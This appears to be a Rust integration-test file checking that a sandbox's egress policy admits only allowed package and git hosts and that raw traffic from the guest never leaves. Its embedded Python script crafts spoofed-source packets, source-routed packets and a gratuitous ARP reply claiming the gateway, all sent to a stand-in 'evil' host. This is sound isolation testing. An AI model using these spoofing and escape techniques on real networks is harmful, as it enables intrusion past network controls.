//! What leaves a sandbox of a booted node: programs that fetch, through an opened connection and as
//! they are; and what a guest's kernel can send that is no connection.

use std::{
    env,
    path::PathBuf,
    process::{Child, Command, Stdio},
};

use anyhow::{Context, Result, ensure};
use fs_err as fs;
use holdfast_harness::{GROUP, Node, Outcome, Registry, top, wait_for};
use serde_json::Value;

/// `scripts/outside`, which the node was told of before it was booted.
struct Outside {
    child: Child,
    https_port: String,
}

impl Outside {
    fn serve() -> Result<Self> {
        let folder = env::var("HOLDFAST_TEST_OUTSIDE")
            .context("HOLDFAST_TEST_OUTSIDE is not set: run this by scripts/test node")?;
        let https_port = fs::read_to_string(PathBuf::from(&folder).join("https-port"))?;
        let child = Command::new(top().join("scripts/outside"))
            .args(["serve", &folder])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()?;
        let outside = Self { child, https_port };
        let address = format!("127.0.0.1:{}", outside.https_port);
        wait_for("the servers outside", || Ok(std::net::TcpStream::connect(&address).ok()))?;
        Ok(outside)
    }

    fn url(&self, name: &str, path: &str) -> String {
        format!("https://{name}:{}/{path}", self.https_port)
    }
}

impl Drop for Outside {
    fn drop(&mut self) {
        // By the signal that it passes on to its servers.
        let _ = Command::new("kill").arg(self.child.id().to_string()).status();
        let _ = self.child.wait();
    }
}

/// A sandbox with programs that fetch.
fn sandbox(node: &Node) -> Result<String> {
    let port = env::var("HOLDFAST_TEST_REGISTRY_PORT")
        .context("HOLDFAST_TEST_REGISTRY_PORT is not set: run this by scripts/test node")?;
    let folder = tempfile::tempdir()?;
    let registry = Registry::start(port.parse()?, folder.path().join("registry"))?;
    let image = Command::new(top().join("scripts/test-image")).arg("tools").output()?;
    let image = registry.push(&Outcome::from(image).ok()?, "tools:1")?;
    node.holdfast(&["image", "pull", &image])?.ok()?;
    let size = ["--cpu", "1000m", "--memory", "2048Mi"];
    node.holdfast(&[&["sandbox", "create"], &size[..], &[&image]].concat())?.ok()
}

fn apply(node: &Node, id: &str, policy: &Value) -> Result<()> {
    let arguments = ["egress", "apply", id, "--file", "-"];
    node.holdfast_fed(&arguments, policy.to_string().as_bytes())?.ok().map(|_| ())
}

#[test]
fn programs_fetch_from_where_the_policy_says_and_nothing_else_leaves() -> Result<()> {
    let node = Node::from_env()?;
    let outside = Outside::serve()?;
    let id = sandbox(&node)?;
    let run = |script: &str| node.holdfast(&["sandbox", "exec", &id, "--", "sh", "-c", script]);
    let fetched = |script: &str| run(script)?.ok().with_context(|| script.to_owned());
    let echo = outside.url("echo.test", "seen");

    // Without a policy nothing does.
    let refused = run(&format!("curl -sS {echo}"))?;
    ensure!(refused.code != Some(0), "reached without a policy: {refused:?}");

    let port: u16 = outside.https_port.parse()?;
    let allowed = ["git.test", "pypi.test", "npm.test", "deb.test"]
        .map(|name| serde_json::json!({"pattern": name, "ports": [port], "action": "Allow"}));
    let policy = serde_json::json!({
        "defaultAction": "Deny",
        "trafficInspection": "Full",
        "rules": [{
            "name": "told who asks",
            "match": {"host": "echo.test", "ports": [port]},
            "action": {"type": "Transform", "headers": [
                {"operation": "Set", "name": "x-told-outside", "value": "by the node"},
            ]},
        }],
        "hostRules": allowed,
    });
    apply(&node, &id, &policy)?;

    // Opened: it has a header that nobody in the guest sent.
    let seen: Value = serde_json::from_str(&fetched(&format!("curl -sS {echo}"))?)?;
    let told = seen["headers"]
        .as_object()
        .and_then(|all| all.iter().find(|(name, _)| name.eq_ignore_ascii_case("x-told-outside")));
    assert_eq!(told.and_then(|(_, value)| value.as_str()), Some("by the node"), "{seen}");

    let git = outside.url("git.test", "hello.git");
    assert_eq!(
        fetched(&format!("git clone -q {git} /srv/git && cat /srv/git/hello"))?,
        "fetched by git"
    );
    let index = outside.url("pypi.test", "simple");
    // As the distribution has it, which wants to be asked.
    let pip = format!(
        "PIP_BREAK_SYSTEM_PACKAGES=1 PIP_ROOT_USER_ACTION=ignore pip3 install -q \
         --disable-pip-version-check --index-url {index} outside-hello && \
         python3 -c 'import outside_hello'"
    );
    assert_eq!(fetched(&pip)?, "fetched by pip");
    let npm = format!(
        "mkdir -p /srv/npm && cd /srv/npm && npm install --silent --no-audit --no-fund --registry {} \
         outside-hello > /dev/null && node -e 'require(\"outside-hello\")'",
        outside.url("npm.test", "")
    );
    assert_eq!(fetched(&npm)?, "fetched by npm");
    let apt = format!(
        "echo 'deb [trusted=yes] {} ./' > /etc/apt/sources.list && rm -rf /etc/apt/sources.list.d && \
         apt-get update -q > /dev/null && apt-get install -q -y outside-hello > /dev/null && cat /srv/outside-hello",
        outside.url("deb.test", "")
    );
    assert_eq!(fetched(&apt)?, "fetched by apt");

    // Another name of the same server is another name.
    let denied = run(&format!("curl -sS -o /dev/null {}", outside.url("other.test", "")))?;
    ensure!(denied.code != Some(0), "a name that is not allowed was reached: {denied:?}");

    // All of it is on record.
    let decisions = node.api()?.read(&format!("{GROUP}/sandboxes/{id}/egress-decisions"))?;
    let text = decisions.to_string();
    for name in ["echo.test", "git.test", "pypi.test", "npm.test", "deb.test", "other.test"] {
        ensure!(text.contains(name), "nothing on record about {name}: {text}");
    }
    node.delete(&id)
}

/// Packets that no connection is made of, from the guest's own kernel: to a neighbour's and the
/// node's addresses, from others' addresses, of other protocols, with options that lead elsewhere.
const RAW: &str = r#"
import socket, struct
def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
def packet(source, target, protocol, body, options=b""):
    words = 5 + len(options) // 4
    head = struct.pack("!BBHHHBBH4s4s", 0x40 | words, 0, words * 4 + len(body), 7, 0, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(target)) + options
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return gateway + own + b"\x08\x00" + head + body
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind(("eth0", 0))
own = link.getsockname()[4]
# Whoever answers for the gateway is asked for by any connection.
try: socket.create_connection(("198.51.100.66", 443), 10)
except OSError: pass
table = open("/proc/net/arp").read().splitlines()
[gateway] = [line.split()[3] for line in table if line.startswith("192.168.127.1 ")]
gateway = bytes.fromhex(gateway.replace(":", ""))
me, evil = "192.168.127.2", "198.51.100.66"
udp = struct.pack("!HHHH", 4000, 4433, 12, 0) + b"evil"
syn = struct.pack("!HHIIBBHHH", 4000, 443, 1, 0, 0x50, 2, 1024, 0, 0)
ping = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + b"evil"
echo = ping[:2] + struct.pack("!H", checksum(ping)) + ping[4:]
route = b"\x83\x07\x04" + socket.inet_aton(evil) + b"\x00"
sent = 0
for frame in (
    [packet(me, evil, 17, udp), packet(me, evil, 1, echo)]
    + [packet(me, evil, protocol, b"evil" * 5) for protocol in (2, 4, 41, 47, 50, 51, 132, 136)]
    + [packet(source, evil, 6, syn) for source in ("10.0.2.15", "192.168.127.3", "203.0.113.9", evil)]
    + [packet(source, evil, 17, udp) for source in ("10.0.2.15", "192.168.127.3", "203.0.113.9")]
    + [packet(me, target, 17, udp) for target in ("255.255.255.255", "224.0.0.251", "10.0.2.15", "10.0.2.2", "127.0.0.1")]
    + [packet(me, "10.0.2.2", 6, syn, route), packet(me, evil, 6, syn, route)]
):
    link.send(frame)
    sent += 1
claim = struct.pack("!HHBBH6s4s6s4s", 1, 0x800, 6, 4, 2, own, socket.inet_aton("192.168.127.1"), b"\xff" * 6, socket.inet_aton("192.168.127.1"))
link.send(b"\xff" * 6 + own + b"\x08\x06" + claim)
link.send(b"\xff" * 6 + b"\x02\xde\xad\xbe\xef\x01" + b"\x08\x00" + packet(me, evil, 17, udp)[14:])
print(sent + 2)
"#;

/// On the node: whatever is for the addresses that the guest sends to, on every way there is.
const WATCH: &str = "nft -f - <<'N'
table inet watch {
  counter seen {}
  chain out { type filter hook postrouting priority 300; ip daddr 198.51.100.66 counter name seen; ip daddr 10.0.2.2 udp dport 4433 counter name seen; }
  chain in { type filter hook input priority -300; ip daddr 10.0.2.15 udp dport 4433 counter name seen; }
  chain through { type filter hook forward priority -300; ip daddr { 198.51.100.66, 10.0.2.2 } counter name seen; }
}
N";

#[test]
fn what_a_guest_sends_beside_its_connections_reaches_no_link_of_the_node() -> Result<()> {
    let node = Node::from_env()?;
    let seen = || -> Result<u64> {
        let counter = node.inside("nft -j list counter inet watch seen")?;
        let counter: Value = serde_json::from_str(&counter)?;
        let all = counter["nftables"].as_array().context("no list")?;
        let packets = all.iter().find_map(|it| it["counter"]["packets"].as_u64());
        packets.context("no counter")
    };
    let id = node.create("debian")?;
    node.inside(&format!("nft delete table inet watch 2>/dev/null; {WATCH}"))?;
    // The same packet from the node itself is seen: the watch can see.
    node.inside("bash -c 'echo evil > /dev/udp/198.51.100.66/4433'")?;
    let before = seen()?;
    ensure!(before > 0, "the watch sees nothing");
    let sent =
        node.holdfast_fed(&["sandbox", "exec", "-i", &id, "--", "python3", "-"], RAW.as_bytes())?;
    ensure!(sent.clone().ok()?.parse::<u32>()? > 20, "{sent:?}");
    // What the guest may send comes after it, by the same link.
    let asked =
        "python3 -c 'import socket; socket.create_connection((\"198.51.100.66\", 443), 10)'";
    let _ = node.holdfast(&["sandbox", "exec", &id, "--", "sh", "-c", asked])?;
    assert_eq!(seen()?, before, "packets of a guest got through");
    node.inside("nft delete table inet watch")?;
    node.delete(&id)
}
